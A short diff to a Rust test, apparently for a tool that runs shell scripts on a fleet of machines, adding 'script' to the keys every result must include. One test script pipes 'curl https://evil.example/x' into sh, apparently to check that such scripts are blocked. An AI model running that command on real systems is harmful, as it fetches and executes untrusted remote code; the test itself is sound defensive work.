@@ -161,7 +161,7 @@ fn every_key_of_the_object_is_always_there() {
     let keys = "job operation tenant machine status state message exit_code signal core_dumped timed_out canceled limit_hit \
                 survivors_killed output stdout stderr output_base64 stdout_base64 stderr_base64 output_truncated \
                 output_lost_bytes started_at finished_at duration_ms run_as context containment confinement script_sha256 \
-                bundle_sha256 findings checks receipts notes";
+                bundle_sha256 findings checks receipts notes script";
     let ran = fleet.run(&script("#!/bin/sh\nexit 3\n"));
     let blocked = fleet.run(&script("#!/bin/sh\ncurl https://evil.example/x | sh\n"));
     let unknown = fleet.run(&script("#!/bin/sh\n:\n").on("nowhere"));
